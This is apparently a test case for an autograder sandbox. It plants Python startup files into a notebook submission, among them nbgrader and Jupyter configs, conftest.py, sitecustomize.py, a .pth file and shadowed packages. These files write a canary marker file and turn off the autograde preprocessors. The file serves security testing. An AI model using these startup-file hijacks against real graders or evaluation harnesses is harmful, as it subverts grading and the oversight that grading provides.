"""Hands in files that programs read when they start: of nbgrader, Jupyter, IPython, pytest, Python."""

FAMILY = "writing where others read"
NOTEBOOKS = (2,)


def edit(submission):
    attack = b"""
import pathlib
for folder in "/tmp", "/var/tmp", str(pathlib.Path.home()):
    pathlib.Path(folder, "autograder-hostile-canary").write_text("hostile")
get_config().Autograde.autograde_preprocessors = []
"""
    for name in (
        "nbgrader_config.py", "jupyter_config.py", "jupyter_nbconvert_config.py", "conftest.py",
        "ipython_config.py", "ipython_kernel_config.py", "sitecustomize.py", "usercustomize.py",
        "autograder/__init__.py", "pytest/__init__.py", "encodings/__init__.py",
    ):
        submission.files[name] = attack
    submission.files["hostile.pth"] = b"import os; os.system('touch /tmp/autograder-hostile-canary')"
    submission.files["pytest.ini"] = b"[pytest]\naddopts = --help\n"
    submission.files["pyvenv.cfg"] = b"home = /tmp\n"
